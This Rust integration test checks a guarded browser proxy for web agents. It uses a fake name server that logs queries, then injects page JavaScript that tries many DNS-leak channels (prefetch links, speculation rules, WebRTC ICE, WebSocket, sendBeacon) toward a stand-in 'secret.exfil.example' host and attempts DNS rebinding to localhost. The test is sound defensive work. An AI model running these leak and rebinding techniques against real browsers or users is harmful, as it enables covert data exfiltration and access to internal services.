//! A guarded browser and a name server that sees every question and changes its answers.
//!
//! A file names the machine's name server, so the test runs itself again in namespaces of its own, with such a file
//! and with a network that has nothing but this machine. If the system allows no namespaces, it reports this and ends;
//! the rules that hold without them are in `egress` and in the unit tests of `webagents-fetch`.

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, UdpSocket};
use webagents_fetch::{Client, ClientOptions, GuardRule, RequestOptions};
use webagents_runtime::Outcome;
use webagents_runtime_webdriver::{Browser, Egress, Engine, ProxyOptions};

use crate::support::{self, engine, in_page, say, value};

crate::support::on_every_engine! {
    a_name_server_learns_and_gains_nothing,
}

crate::support::on_full_chromium! {
    a_name_server_learns_and_gains_nothing,
}

/// Environment variable that marks the second run of the test, which is in namespaces.
const INSIDE: &str = "WEBAGENTS_TEST_NAMESPACE";
/// A public address, which is this machine's in the namespace.
const PUBLIC: &str = "93.184.215.14";
/// Sets up the namespace as the test expects it, and runs the test.
const ENTER: &str = "ip link set lo up && ip addr add 93.184.215.14/32 dev lo && mount --bind \"$0\" /etc/resolv.conf \
                     && exec \"$@\"";

/// Returns whether this is the run in namespaces.
///
/// Otherwise that run is made here, if the system allows it.
fn inside() -> bool {
    if std::env::var_os(INSIDE).is_some() {
        return true;
    }
    let kinds = if rustix::process::geteuid().is_root() { "-mn" } else { "-Urmn" };
    let file = tempfile::NamedTempFile::new().expect("a file");
    std::fs::write(file.path(), "nameserver 127.0.0.1\n").expect("written");
    let enter = |program: &[&str]| {
        let mut command = Command::new("unshare");
        command.arg(kinds).args(["sh", "-c", ENTER]).arg(file.path()).args(program).env(INSIDE, "1");
        command
    };
    match enter(&["true"]).output() {
        Ok(output) if output.status.success() => {}
        Ok(output) => {
            say(&format!("skipped: no namespaces here: {}", String::from_utf8_lossy(&output.stderr).trim()));
            return false;
        }
        Err(error) => {
            say(&format!("skipped: unshare(1) cannot be started: {error}"));
            return false;
        }
    }
    let this = std::env::current_exe().expect("a program");
    let module = match engine() {
        Engine::Chromium => "chromium",
        Engine::ChromiumHeadlessShell => "headless_shell",
        Engine::Firefox => "firefox",
        _ => "webkit",
    };
    let name = format!("names::{module}::a_name_server_learns_and_gains_nothing");
    let program = this.to_string_lossy();
    let output = enter(&[&program, "--exact", &name, "--nocapture"]).output().expect("it runs");
    let said = [output.stdout, output.stderr].concat();
    assert!(output.status.success(), "in namespaces: {}", String::from_utf8_lossy(&said));
    assert!(String::from_utf8_lossy(&said).contains("1 passed"), "{}", String::from_utf8_lossy(&said));
    false
}

/// A name server: it has addresses of known names, and answers that other names do not exist.
#[derive(Clone, Default)]
struct Names {
    addresses: Arc<Mutex<HashMap<String, Ipv4Addr>>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Names {
    async fn serve() -> Self {
        let names = Self::default();
        let socket = UdpSocket::bind("127.0.0.1:53").await.expect("the port of name servers");
        let server = names.clone();
        tokio::spawn(async move {
            let mut packet = [0; 1500];
            while let Ok((length, from)) = socket.recv_from(&mut packet).await {
                if let Some(answer) = server.answer(&packet[..length]) {
                    let _ = socket.send_to(&answer, from).await;
                }
            }
        });
        names
    }

    fn set(&self, name: &str, address: &str) {
        let address = address.parse().expect("an address");
        self.addresses.lock().unwrap_or_else(PoisonError::into_inner).insert(name.to_owned(), address);
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// RFC 1035 section 4.1: one question, and an address with no time to live in answer to one for `A`.
    fn answer(&self, packet: &[u8]) -> Option<Vec<u8>> {
        let (mut at, mut labels) = (12, Vec::new());
        loop {
            let length = usize::from(*packet.get(at)?);
            at += 1;
            if length == 0 {
                break;
            }
            labels.push(String::from_utf8_lossy(packet.get(at..at + length)?).to_lowercase());
            at += length;
        }
        let (name, question) = (labels.join("."), packet.get(12..at + 4)?);
        self.asked.lock().unwrap_or_else(PoisonError::into_inner).push(name.clone());
        let known = self.addresses.lock().unwrap_or_else(PoisonError::into_inner).get(&name).copied();
        let address = known.filter(|_| packet.get(at..at + 2) == Some(&[0, 1]));
        let mut answer = packet.get(..2)?.to_vec();
        answer.extend([
            0x81,
            if known.is_some() { 0x80 } else { 0x83 },
            0,
            1,
            0,
            u8::from(address.is_some()),
        ]);
        answer.extend([0, 0, 0, 0]);
        answer.extend(question);
        if let Some(address) = address {
            answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
            answer.extend(address.octets());
        }
        Some(answer)
    }
}

/// Serves `body` for every request.
async fn serve(address: &str, body: &'static str) -> u16 {
    let listener = TcpListener::bind(address).await.expect("a port");
    let port = listener.local_addr().expect("an address").port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut head = [0; 8192];
                let _ = stream.read(&mut head).await;
                let length = body.len();
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncache-control: no-store\r\ncontent-length: {length}\r\n\
                     connection: close\r\n\r\n{body}"
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    port
}

/// Every way known by which a page may make a browser look a name up.
///
/// The guard refuses port 81 before it would.
const WAYS: &str = r"
    const host = (name) => `${name}.secret.exfil.example`;
    const did = [];
    const wait = (ms) => new Promise((yes) => setTimeout(yes, ms));
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'prerender', 'stylesheet', 'manifest']) {
        const link = document.createElement('link');
        Object.assign(link, { rel, href: `https://${host(rel)}:81/`, as: 'image' });
        document.head.append(link);
    }
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    const urls = [`https://${host('speculation')}:81/`];
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls }], prerender: [{ source: 'list', urls }] });
    document.head.append(rules);
    if (globalThis.RTCPeerConnection) {
        const login = { username: 'u', credential: 'p' };
        const one = new RTCPeerConnection({ iceServers: [
            { urls: `stun:${host('stun')}:3478` },
            { urls: `turn:${host('turn')}:3478`, ...login },
            { urls: `turn:${host('turn-tcp')}:3478?transport=tcp`, ...login },
            { urls: `turns:${host('turns')}:5349?transport=tcp`, ...login },
        ] });
        const other = new RTCPeerConnection();
        one.createDataChannel('x');
        await one.setLocalDescription(await one.createOffer());
        await other.setRemoteDescription(one.localDescription);
        await other.setLocalDescription(await other.createAnswer());
        await one.setRemoteDescription(other.localDescription);
        for (const peer of [one, other]) {
            for (const [kind, end] of [['udp', ''], ['tcp', ' tcptype passive']]) {
                const candidate = `candidate:1 1 ${kind} 2122260223 ${host('candidate-' + kind)} 50000 typ host${end}`;
                await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }).then(() => did.push(kind), () => {});
            }
        }
    }
    if (globalThis.WebTransport) new WebTransport(`https://${host('transport')}:81/`).ready.catch(() => {});
    try { new WebSocket(`wss://${host('socket')}:81/`); } catch {}
    fetch(`https://${host('fetch')}:81/`).catch(() => {});
    navigator.sendBeacon(`https://${host('beacon')}:81/`, 'x');
    for (const [tag, name, value] of [['img', 'src', 'https'], ['iframe', 'src', 'https'], ['iframe', 'src', 'ftp'],
        ['video', 'src', 'https'], ['video', 'src', 'rtsp'], ['a', 'href', 'https']]) {
        const element = document.createElement(tag);
        element[name] = `${value}://${host(tag + '-' + value)}:81/`;
        document.body.append(element);
        element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    }
    await wait(2500);
    return did;
";

async fn a_name_server_learns_and_gains_nothing() {
    if !inside() {
        return;
    }
    let names = Names::serve().await;
    let port = serve(&format!("{PUBLIC}:0"), "<body>shop").await;
    let local = serve(&format!("127.0.0.1:{port}"), "<body>router").await;
    assert_eq!(local, port);
    names.set("shop.example", PUBLIC);
    let typed = format!("http://shop.example:{port}/").parse().expect("a URL");
    let mut client = ClientOptions::default();
    client.allow_url(&typed).expect("a host");
    let fetched = Client::new(&client).expect("a client").get(&typed, &RequestOptions::default()).await;
    assert_eq!(fetched.expect("the page").body, b"<body>shop");

    let mut options = support::options();
    options.egress = Egress::Guarded(ProxyOptions::from(&client));
    let mut session = Browser::launch(options).await.expect("the driver").session().await.expect("a session");
    session.open(typed.as_str()).await.expect("the page");
    let before = names.asked().len();
    let outcome: Outcome = session.execute_with(WAYS, &in_page()).await;
    let did: &Value = value(&outcome);
    let leaked: Vec<_> =
        names.asked().into_iter().skip(before).filter(|name| name.contains("exfil")).collect();
    assert_eq!(leaked, Vec::<String>::new(), "{did}");

    // The name moves to this machine.
    names.set("shop.example", "127.0.0.1");
    let again = format!("return fetch({}).then((r) => r.text(), () => '')", json!(format!("{typed}again")));
    let outcome: Outcome = session.execute_with(&again, &in_page()).await;
    let text = value(&outcome).as_str().expect("a text").to_owned();
    assert!(!text.contains("router"), "{text}");
    let refusals = session.refusals();
    let refused = refusals.of("shop.example", port).expect("a refusal");
    assert_eq!(refused.refusal.rule(), GuardRule::Rebinding, "{refused}");
    session.open(typed.as_str()).await.expect_err("the guard refuses");
    let fetched = Client::new(&client).expect("a client").get(&typed, &RequestOptions::default()).await;
    let error = fetched.expect_err("the guard refuses");
    assert_eq!(error.refusal().map(webagents_fetch::Refusal::rule), Some(GuardRule::Rebinding), "{error}");
    // And back.
    names.set("shop.example", PUBLIC);
    session.open(typed.as_str()).await.expect("the page");
    if engine() != Engine::Firefox {
        // Firefox requests settings from Mozilla, whatever its preferences are.
        tokio::time::sleep(Duration::from_millis(500)).await;
        assert!(names.asked().iter().all(|name| name == "shop.example"), "{:?}", names.asked());
    }
    session.close().await.expect("the browser closes");
}
